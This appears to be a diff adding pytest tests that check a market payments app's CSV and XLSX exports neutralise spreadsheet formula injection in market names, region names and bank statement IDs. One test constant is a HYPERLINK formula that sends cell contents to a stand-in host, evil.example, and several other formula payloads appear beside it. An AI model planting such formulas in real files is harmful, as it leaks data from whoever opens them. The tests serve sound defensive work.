@@ -152,3 +152,96 @@ def test_a_payos_body_with_deeply_nested_data_is_refused_not_a_server_error(clie
     body = json.dumps({"data": {"amount": 1, "extra": nested}, "signature": "00"})
     response = client.post("/api/v1/callbacks/payos", data=body, content_type="application/json")
     assert response.status_code == 401 and response.get_json()["success"] is False
+
+
+# --- 7. spreadsheet formulas ---------------------------------------------------------------
+
+EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Chợ A")'
+
+
+@pytest.mark.parametrize("value,expected", [
+    (EVIL_NAME, "'" + EVIL_NAME), ("+1+1", "'+1+1"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
+    ("\t=1", "'\t=1"), ("\r=1", "'\r=1"), ("Chợ Một", "Chợ Một"), ("Chợ = A", "Chợ = A"), ("", ""),
+    (-1500, -1500), (0, 0), (2.5, 2.5), (None, None), ("-1500", "-1500"), ("-12,5", "-12,5")])
+def test_csv_cells_that_a_spreadsheet_would_run_are_quoted_and_nothing_else_changes(value, expected):
+    from market_pay.common.spreadsheet import csv_cell
+    assert csv_cell(value) == expected
+
+
+def test_xlsx_text_cells_are_text_never_formulas():
+    from openpyxl import Workbook
+    from market_pay.common.spreadsheet import set_xlsx_cell
+    sheet = Workbook().active
+    evil, number, error_code = (set_xlsx_cell(sheet, 1, 1, EVIL_NAME), set_xlsx_cell(sheet, 1, 2, -1500),
+                                set_xlsx_cell(sheet, 1, 3, "#N/A"))
+    assert (evil.data_type, evil.value, evil.quotePrefix) == ("s", EVIL_NAME, True)
+    assert (number.data_type, number.value) == ("n", -1500)
+    assert (error_code.data_type, error_code.value) == ("s", "#N/A")
+    assert set_xlsx_cell(sheet, 1, 4, "bad\x01char").value == "bad\ufffdchar"
+
+
+@pytest.fixture
+def evil_market_report(app):
+    """Three active stalls in a market renamed to a formula (listed by name in the report)."""
+    from tests.factories import make_market, make_region
+    from tests.reports.helpers import at, credit
+    province = make_region("P", "province", name="-Tỉnh Thử")
+    commune = make_region("C1", "commune", province, name="@Xã Một")
+    market = make_market("M1", commune, EVIL_NAME)
+    for _ in range(3):
+        stall = make_vendor(market)
+        stall.created_at = stall.accounts[0].created_at = at("2026-08-01 08:00")
+        db.session.commit()
+        credit(stall, 10_000, "2026-11-05 10:00")
+    return make_user("admin")
+
+
+def get_adoption(client, user, **query):
+    return client.get("/api/v1/reports/adoption", headers=auth_header(user),
+                      query_string={"from": "2026-11-01", "to": "2026-11-30", "region": "P", **query})
+
+
+def test_a_market_named_as_a_formula_is_plain_text_in_the_adoption_csv(client, evil_market_report):
+    import csv
+    import io
+    response = get_adoption(client, evil_market_report, format="csv")
+    assert response.status_code == 200
+    lines = list(csv.reader(io.StringIO(response.data.decode("utf-8-sig"))))
+    header, market = lines[0], dict(zip(lines[0], lines[1]))
+    assert market["Chợ"] == "'" + EVIL_NAME and market["Xã / phường"] == "'@Xã Một"
+    assert market["Giá trị không tiền mặt (₫)"] == "30000"  # numbers untouched
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in lines for cell in line), lines
+
+
+def test_a_market_named_as_a_formula_is_a_text_cell_in_the_adoption_xlsx(client, evil_market_report):
+    import io
+    from openpyxl import load_workbook
+    response = get_adoption(client, evil_market_report, format="xlsx")
+    assert response.status_code == 200
+    sheet = load_workbook(io.BytesIO(response.data)).active
+    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
+    assert not [cell for cell in cells if cell.data_type == "f"]
+    named = [cell for cell in cells if cell.value == EVIL_NAME]
+    assert named and all(cell.data_type == "s" and cell.quotePrefix for cell in named)
+    commune = [cell for cell in cells if cell.value == "@Xã Một"]
+    assert commune and commune[0].quotePrefix
+    assert 30_000 in [cell.value for cell in cells if cell.data_type == "n"]
+
+
+def test_statement_ids_shaped_as_formulas_are_plain_text_in_breaks_csv(client, stall, tmp_path):
+    import csv
+    import io
+    from tests.reconciliation.statements import line, write_statement
+    statement = write_statement(tmp_path / "sao-ke.csv", [("970436", "0011001234567", 0, [
+        line("=1+2", "@SUM(A1)", "2026-11-21T09:30:00+07:00", 1_250_000, description="=HYPERLINK(\"x\")"),
+        line("-5+5", "+FT2", "2026-11-21T09:40:00+07:00", 1_000)], None)])
+    admin = make_user("admin")
+    with open(statement, "rb") as handle:
+        run = client.post("/api/v1/statements", headers=auth_header(admin), content_type="multipart/form-data",
+                          data={"file": (handle, "sao-ke.csv"), "partner": "simbank"})
+    assert run.status_code == 201, run.get_json()
+    response = client.get(f"/api/v1/reconciliation-runs/{run.get_json()['id']}/breaks.csv", headers=auth_header(admin))
+    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert "'=1+2" in cells and "'@SUM(A1)" in cells and "'-5+5" in cells and "'+FT2" in cells
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells), rows
